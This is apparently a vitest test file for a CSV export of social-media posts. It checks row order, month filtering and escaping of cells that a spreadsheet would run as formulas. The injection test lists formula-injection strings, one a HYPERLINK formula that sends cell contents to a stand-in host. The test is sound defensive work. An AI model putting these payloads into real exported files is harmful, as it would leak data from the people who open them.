import 'fake-indexeddb/auto';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { monthsWithPosts, postsAsCsv } from '../../utils/backup/csv.ts';
import { later } from '../../utils/browser/texts/later.ts';
import { JubirDatabase } from '../../utils/db/database.ts';
import { post, source } from '../draft/samples.ts';
import { randomFrom, words } from './samples.ts';

const csvWords = later.id.backup.csv;
let db: JubirDatabase;

beforeEach(async () => {
  db = new JubirDatabase(`csv-${Math.random()}`);
  await db.sources.put(source());
});

afterEach(() => db.delete());

/** RFC 4180 read by the letter, with semicolons: every cell in quotes, every row ended. */
function parse(csv: string): string[][] {
  expect(csv.startsWith('\ufeff')).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let rest = csv.slice(1);
  while (rest !== '') {
    const [whole = '', cell = '', end] = /^"((?:[^"]|"")*)"(;|\r\n)/.exec(rest) ?? [];
    if (whole === '') throw new Error(`no cell at: ${rest.slice(0, 40)}`);
    row.push(cell.replaceAll('""', '"'));
    if (end === '\r\n') rows.push(row);
    if (end === '\r\n') row = [];
    rest = rest.slice(whole.length);
  }
  return rows;
}

const list = async (month: { year: number; month: number } | null = null) =>
  parse(await postsAsCsv(db, month, csvWords));

const at = (year: number, month: number, day: number, hour = 9, minute = 5) =>
  new Date(year, month, day, hour, minute).getTime();

describe('the list for the office', () => {
  test('has one row per post, oldest first, in words', async () => {
    await db.posts.bulkPut([
      post({
        id: 'b',
        openedAt: at(2026, 10, 24, 14, 40),
        state: 'posted',
        link: 'https://x.com/a/status/1',
        picture: { url: 'https://adm.kotabogor.go.id/a.png', alt: '=Warga' },
      }),
      post({ id: 'a', openedAt: at(2026, 10, 3), platform: 'whatsapp', account: 'Humas', text: 'Satu\ndua' }),
      post({ id: 'gone', openedAt: at(2026, 10, 5), deletedAt: 1 }),
    ]);
    const [heads, first, second, ...more] = await list();
    expect(heads).toEqual(Object.values(csvWords.columns));
    expect(first).toEqual([
      ...['2026-11-03', '09:05', 'WhatsApp', 'Humas', csvWords.states.opened, 'Satu\ndua', ''],
      ...['Taman baru dibuka', 'https://kotabogor.go.id/berita/taman-baru', 'Kota Bogor', '', ''],
    ]);
    expect(second?.slice(0, 3)).toEqual(['2026-11-24', '14:40', 'X']);
    expect(second?.[4]).toBe(csvWords.states.posted);
    expect(second?.[6]).toBe('https://x.com/a/status/1');
    expect(second?.slice(10)).toEqual(['https://adm.kotabogor.go.id/a.png', "'=Warga"]);
    expect(more).toEqual([]);
  });

  test('holds one month of this computer’s calendar, to the minute', async () => {
    const edges = [
      at(2026, 10, 30, 23, 59),
      at(2026, 10, 1, 0, 0),
      at(2026, 9, 31, 23, 59),
      at(2026, 11, 1, 0, 0),
    ];
    await db.posts.bulkPut(edges.map((openedAt, n) => post({ id: `p${n}`, openedAt })));
    const dates = async (month: number) => (await list({ year: 2026, month })).slice(1).map(([date]) => date);
    expect(await dates(10)).toEqual(['2026-11-01', '2026-11-30']);
    expect(await dates(9)).toEqual(['2026-10-31']);
    expect(await dates(11)).toEqual(['2026-12-01']);
    expect(await list({ year: 2025, month: 10 })).toHaveLength(1);
    expect(await monthsWithPosts(db)).toEqual([
      { year: 2026, month: 11 },
      { year: 2026, month: 10 },
      { year: 2026, month: 9 },
    ]);
  });

  test('brings no cell that a spreadsheet would run', async () => {
    const attacks = [
      '=1+1',
      '=HYPERLINK("http://a.example/?"&A1;"Klik")',
      '+62 251 1234',
      '-2+3',
      '@SUM(1)',
      '\t=1',
      '\r=1',
      '\n=1',
      ' =1',
      '\u0000=1',
      '＝1+1',
      '＋1',
      '－1',
      '＠a',
    ];
    await db.posts.bulkPut(
      attacks.map((text, n) =>
        post({ id: `p${n}`, openedAt: 1_000 + n, text, releaseTitle: text, account: text }),
      ),
    );
    const rows = (await list()).slice(1);
    expect(rows).toHaveLength(attacks.length);
    for (const [n, row] of rows.entries()) {
      expect([row[3], row[5], row[7]], attacks[n]).toEqual(Array(3).fill(`'${attacks[n]}`));
    }
  });

  test('gives back any text whatever', async () => {
    const random = randomFrom(11);
    const all = Array.from({ length: 300 }, () => `x${words(random, 12)}`);
    await db.posts.bulkPut(all.map((text, n) => post({ id: `p${n}`, openedAt: 1_000 + n, text })));
    expect((await list()).slice(1).map((row) => row[5])).toEqual(all);
  });
});
